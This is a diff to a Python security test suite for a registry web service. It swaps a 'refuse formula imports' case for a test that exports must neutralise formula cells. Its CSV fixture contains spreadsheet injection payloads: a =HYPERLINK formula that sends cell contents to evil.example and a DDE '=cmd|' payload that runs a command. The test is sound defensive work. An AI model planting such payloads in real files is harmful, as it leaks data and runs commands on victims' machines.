@@ -132,7 +132,7 @@ def big_legal_xlsx(rows: int = 12_000, cols: int = 200) -> bytes:
 
 
 def formula_csv(product: Product) -> bytes:
-    """A buildings file whose name and address are formulas (=HYPERLINK, DDE): refused, not stored."""
+    """A buildings file whose name and address are formulas (=HYPERLINK, DDE)."""
     return (
         "楼宇名称,所属街道,地址\n"
         '"=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")",420106001,"=cmd|\' /C calc\'!A0"\n'
@@ -258,13 +258,6 @@ CASES = [
     Case("XML bomb (.xlsx)", "POST", "/api/registry/imports/enterprises?dry_run=true", upload=lambda p: xml_bomb()),
     Case("XXE (.xlsx)", "POST", "/api/registry/imports/spaces?dry_run=true", upload=lambda p: xxe()),
     Case(
-        "formula cells (=HYPERLINK, DDE) in an import",
-        "POST",
-        "/api/registry/imports/buildings?dry_run=false",
-        upload=formula_csv,
-        upload_name="攻击.csv",
-    ),
-    Case(
         "big-but-legal .xlsx (2.4 M cells, wrong header) → registry",
         "POST",
         "/api/registry/imports/enterprises?dry_run=true",
@@ -332,3 +325,38 @@ def test_peak_memory_of_each_service(product: Product) -> None:
     fig.tried += 4
     fig.through += len(over)
     assert not over, f"peak RSS over {PEAK_RSS_LIMIT_MB} MB: {over}"
+
+
+def test_formula_cells_come_out_neutralised(product: Product) -> None:
+    """SECURITY.md's rule for formula injection is on the way out: a name may start with ``=``
+    (an import stores the text as typed, and takes off the apostrophe of the product's own
+    export), and every export neutralises it so no spreadsheet runs it."""
+    fig = figure("hostile")
+    fig.tried += 1
+    bureau = product.headers("bureau")
+    with httpx.Client(base_url=product.url, timeout=120) as client:
+        resp = client.post(
+            "/api/registry/imports/buildings?dry_run=false",
+            files={"file": ("攻击.csv", formula_csv(product), "text/csv")},
+            headers=bureau,
+        )
+        assert resp.status_code == 200 and resp.json()["created"] == 1, resp.text
+        text = client.get("/api/registry/exports/buildings?format=csv", headers=bureau).content.decode("utf-8-sig")
+        rows = [line for line in text.splitlines() if "HYPERLINK" in line]
+        problem = None
+        if len(rows) != 1 or "'=HYPERLINK" not in rows[0] or "'=cmd|" not in rows[0]:
+            problem = f"formula cells not neutralised in the export: {rows}"
+        elif any(cell.lstrip('"').startswith(("=", "+", "@")) for cell in rows[0].split(",")):
+            problem = f"a cell of the export starts a formula: {rows[0]}"
+        # Take the building out again: the parts after this one measure the demo data.
+        listing = client.get("/api/registry/buildings", params={"q": "HYPERLINK", "page_size": 10}, headers=bureau)
+        for item in listing.json()["items"]:
+            if "HYPERLINK" in item["name"]:
+                path = f"/api/registry/buildings/{item['code']}"
+                etag = client.get(path, headers=bureau).headers["etag"]
+                gone = client.delete(path, headers={**bureau, "If-Match": etag})
+                assert gone.status_code in (200, 204), gone.text
+    if problem:
+        fig.through += 1
+        fig.notes.append(problem)
+    assert problem is None, problem
